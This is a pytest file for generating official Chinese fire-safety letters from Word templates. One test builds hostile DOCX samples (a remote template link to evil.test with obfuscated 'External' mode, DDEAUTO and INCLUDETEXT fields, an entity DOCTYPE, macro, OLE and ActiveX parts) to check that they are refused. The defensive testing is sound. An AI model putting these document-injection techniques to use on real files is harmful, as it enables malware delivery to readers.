"""The other papers: what they say, in the official layout, with the office's own texts."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date

import pytest
from docx import Document as open_document
from docx.shared import Mm

from analysis.risk.hazards import with_clock
from briefing.papers.finished import UnfinishedPaperError
from briefing.papers.letters import FORMS, NothingOpenError, title_of, write_paper
from briefing.papers.request import Request, items_of
from briefing.papers.template import (
    ForbiddenPaperError,
    PlaceholderError,
    TemplateError,
    check_template,
    check_text,
    fill_template,
    left_out,
)
from briefing.papers.values import values
from briefing.words import papers
from tests.briefing.small_office import AS_OF, facts, hazards
from tests.builders import site_rows
from tests.hostile_text import HOSTILE
from vocabulary.papers import KINDS

ASKED = Request("advice", "某街道办事处", AS_OF, addressee="某足浴店", site="某足浴店")


def text_of(content: bytes) -> str:
    opened = open_document(io.BytesIO(content))
    cells = [cell.text for table in opened.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in opened.paragraphs), *cells])


def items(*ids: int, name: str = "某足浴店"):
    sites = site_rows({"site_id": 1, "name": name}, {"site_id": 3, "name": name})
    return items_of(with_clock(hazards(), as_of=AS_OF), sites, ids)


def test_the_items_are_listed_longest_overdue_first():
    listed = items(5, 6, 7)
    # 7 is overdue since 11 January (40 days), 5 since 10 February (10 days), 6 not yet due.
    assert [(one.hazard_id, one.late) for one in listed] == [(7, 40), (5, 10), (6, 0)]


def test_an_advice_counts_its_hazards_and_lists_each():
    said = text_of(write_paper(replace(ASKED, items=items(5, 6, 7), reply_by=date(2024, 3, 1))))
    assert "尚有3处隐患未整改，其中2处已超过整改期限" in said
    assert "2024年3月1日前" in said
    assert "2月10日" in said
    # Addressee, title and receipt: the letter is to that site, so no row names it again.
    assert said.count("某足浴店") == 4


def test_what_waits_for_its_re_check_stands_apart_and_is_not_counted():
    # 4 is handed in; 5 and 7 are not.
    said = text_of(write_paper(replace(ASKED, items=items(4, 5, 7))))
    assert "尚有2处隐患未整改，均已超过整改期限" in said
    assert "已报整改、待复查或待销案的隐患（无需重复整改）" in said
    with pytest.raises(NothingOpenError):
        write_paper(replace(ASKED, items=items(4)))


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind not in FORMS])
def test_every_paper_stands_on_the_official_page_and_orders_nothing(kind: str):
    asked = replace(ASKED, kind=kind, items=items(5, 7), facts=facts(), is_demo=True)
    content = write_paper(asked)
    opened = open_document(io.BytesIO(content))
    section = opened.sections[0]
    assert abs(section.top_margin - Mm(37)) < Mm(0.1)
    assert abs(section.left_margin - Mm(28)) < Mm(0.1)
    assert "演示数据" in section.header.paragraphs[0].text
    said = text_of(content)
    assert title_of(asked) in said.replace("\n", "")
    assert papers.FORBIDDEN not in said
    assert "{" not in said


def test_what_nobody_has_decided_stays_a_blank():
    said = text_of(write_paper(replace(ASKED, kind="bulletin", facts=facts(), addressee="")))
    assert "第　　期" in said
    assert "　　年　　月　　日" in said


def test_a_bulletin_says_what_the_circular_says():
    said = text_of(write_paper(replace(ASKED, kind="bulletin", facts=facts())))
    assert "发现隐患8处" in said


def test_the_risk_notice_tells_what_may_follow_in_plain_words():
    said = text_of(write_paper(replace(ASKED, kind="risk", items=items(5, 6, 7))))
    assert "一是" in said
    assert "线路过热、短路容易引发火灾（" not in said
    assert "线路过热、短路容易引发火灾" in said
    assert "拆除私拉线路" in said
    assert not re.search(r"重大风险|红色|T[1-4]|R0\d", said)


def test_a_paper_that_is_to_be_signed_has_no_blank_but_its_number():
    asked = replace(ASKED, items=items(5, 7), is_final=True)
    with pytest.raises(UnfinishedPaperError) as caught:
        write_paper(asked)
    assert set(caught.value.blanks) >= {"联系人", "电话", "答复期限"}
    whole = replace(
        asked, contact="某人", phone="023-1", issued_on=AS_OF, reply_by=date(2024, 3, 1)
    )
    content = write_paper(whole)
    section = open_document(io.BytesIO(content)).sections[0]
    assert "送签稿" not in section.first_page_header.paragraphs[0].text
    assert "【" not in text_of(content)
    assert (
        "送签稿"
        in open_document(io.BytesIO(write_paper(replace(whole, is_final=False))))
        .sections[0]
        .first_page_header.paragraphs[0]
        .text
    )


def test_a_paper_that_orders_what_is_not_the_street_s_is_not_signed():
    asked = replace(ASKED, items=items(5, 7), is_final=True)
    with pytest.raises(UnfinishedPaperError) as caught:
        write_paper(asked, texts={"advice": "{收文单位}：\n逾期将罚款，本场所T4级。\n{隐患清单}"})
    assert caught.value.words == ("罚款", "T4")


def test_an_unknown_placeholder_is_refused_by_its_name():
    with pytest.raises(PlaceholderError) as caught:
        write_paper(ASKED, texts={"advice": "{收文单位}：{罚款金额}"})
    assert caught.value.names == ("罚款金额",)
    assert "{收文单位}" in str(caught.value)


def test_a_text_that_orders_correction_within_a_time_limit_is_refused():
    with pytest.raises(ForbiddenPaperError):
        check_text("责令 限期 改正")


def test_what_is_filled_in_is_never_read_as_a_placeholder():
    asked = replace(ASKED, addressee="{文号}", number="9", items=items(5))
    assert "{文号}：" in text_of(write_paper(asked, texts={"advice": "{收文单位}："}))


def test_hostile_names_stay_text():
    for name in HOSTILE:
        asked = replace(ASKED, items=items(5, name=name), site=name)
        assert open_document(io.BytesIO(write_paper(asked))).tables


def template(*runs: str) -> bytes:
    document = open_document()
    paragraph = document.add_paragraph()
    for text in runs:
        paragraph.add_run(text)
    document.add_table(1, 1).cell(0, 0).text = "共{隐患数}处"
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def test_a_template_is_filled_also_where_a_placeholder_is_split_over_runs():
    made = fill_template(template("致{收文", "单", "位}同志，", "{文号}"), values(ASKED))
    paragraph = open_document(io.BytesIO(made)).paragraphs[0]
    assert paragraph.text.startswith("致某足浴店同志，")
    assert "共0处" in text_of(made)


def test_a_template_with_an_unknown_placeholder_is_refused():
    with pytest.raises(PlaceholderError) as caught:
        fill_template(template("{法人", "电话}"), values(ASKED))
    assert caught.value.names == ("法人电话",)


@pytest.mark.parametrize("content", [b"", b"PK", b"\xd0\xcf\x11\xe0", b"x" * 2_000_001])
def test_what_is_no_document_is_refused_as_a_template(content: bytes):
    with pytest.raises(TemplateError):
        fill_template(content, values(ASKED))


def test_a_template_with_a_link_to_the_outside_is_refused():
    document = open_document()
    document.part.relate_to("http://example.com/x.png", "http://x/image", is_external=True)
    stream = io.BytesIO()
    document.save(stream)
    with pytest.raises(TemplateError) as caught:
        fill_template(stream.getvalue(), values(ASKED))
    assert caught.value.why == "link"


def packed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return the package with one part changed, or a part of that name put in."""
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.namelist():
            part = old.read(entry)
            new.writestr(entry, change(part) if entry == name else part)
        if name not in old.namelist():
            new.writestr(name, change(b""))
    return stream.getvalue()


BODY = "word/document.xml"
GOOD = ("致{收文单位}", "{文号}")


def put(xml: str) -> Callable[[bytes], bytes]:
    """Return the change that puts this before the end of the body."""
    return lambda part: part.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


@pytest.mark.parametrize(
    ("why", "content"),
    [
        ("brace", template("致{收文单位", "同志")),
        ("brace", template("致收文单位}", "同志")),
        ("brace", template("致\uff5b收文单位\uff5d", "同志")),
        ("brace", template("致{{收文单位}}", "同志")),
        ("macro", packed(template(*GOOD), "word/vbaProject.bin", lambda _: b"x")),
        ("object", packed(template(*GOOD), "word/embeddings/ole1.bin", lambda _: b"x")),
        ("object", packed(template(*GOOD), "word/activeX/activeX1.bin", lambda _: b"x")),
        ("not_docx", packed(template(*GOOD), BODY, lambda part: part[:-9])),
        (
            "not_docx",
            packed(
                template(*GOOD), BODY,
                lambda part: part.replace(
                    b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><w:document', 1
                ),
            ),
        ),
        (
            "link",
            packed(
                template(*GOOD), "word/_rels/document.xml.rels",
                lambda part: part.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" Type="http://x/attachedTemplate" '
                    b'Target="http://evil.test/a.dotm" TargetMode="Ext&#101;rnal"/>'
                    b"</Relationships>",
                ),
            ),
        ),
        (
            "field",
            packed(
                template(*GOOD), BODY,
                put('<w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'),
            ),
        ),
        (
            "field",
            packed(
                template(*GOOD), BODY,
                put('<w:p><w:fldSimple w:instr=" INCLUDETEXT \'x\' "/></w:p>'),
            ),
        ),
    ],
)  # fmt: skip
def test_a_hostile_template_is_refused_and_the_reason_named(why: str, content: bytes):
    with pytest.raises(TemplateError) as caught:
        check_template(content)
    assert caught.value.why == why


def test_a_template_with_nothing_to_fill_in_is_refused():
    document = open_document()
    document.add_paragraph("关于消防安全的通知")
    stream = io.BytesIO()
    document.save(stream)
    with pytest.raises(TemplateError) as caught:
        check_template(stream.getvalue())
    assert caught.value.why == "nothing"


def test_what_a_template_does_without_is_told_by_name():
    told = left_out(
        template("致{收文单位}"), "{收文单位}：共{隐患数}处，{答复期限}前答复，{收文单位}"
    )
    assert told == ("答复期限",)


def test_a_text_box_and_a_content_control_are_filled_too():
    box = (
        '<w:p><w:r><w:pict><v:textbox xmlns:v="urn:schemas-microsoft-com:vml"><w:txbxContent>'
        "<w:p><w:r><w:t>框内{收文</w:t></w:r><w:r><w:t>单位}</w:t></w:r></w:p>"
        "</w:txbxContent></v:textbox></w:pict></w:r><w:r><w:t>框外</w:t></w:r></w:p>"
        "<w:sdt><w:sdtContent><w:p><w:r><w:t>控件{截至日期}</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    made = fill_template(packed(template(*GOOD), BODY, put(box)), values(ASKED))
    with zipfile.ZipFile(io.BytesIO(made)) as package:
        text = package.read(BODY).decode()
    assert "框内某足浴店" in text
    assert "{" not in re.sub(r"<[^>]+>", "", text)
    unknown = packed(template(*GOOD), BODY, put(box.replace("截至日期", "法人")))
    with pytest.raises(PlaceholderError) as caught:
        check_template(unknown)
    assert caught.value.names == ("法人",)


def test_a_name_in_a_foot_note_is_refused():
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    note = f'<w:footnotes xmlns:w="{w}"><w:p><w:r><w:t>{{收文单位}}</w:t></w:r></w:p></w:footnotes>'
    with pytest.raises(TemplateError) as caught:
        check_template(packed(template(*GOOD), "word/footnotes.xml", lambda _: note.encode()))
    assert caught.value.why == "note"


def test_every_reason_has_its_sentence():
    from pages.meeting.papers import why

    for reason in ("too_large", "not_docx", "macro", "object", "link", "field", "brace", "nothing",
                   "note"):  # fmt: skip
        assert "。" in why(TemplateError(reason, "x"))
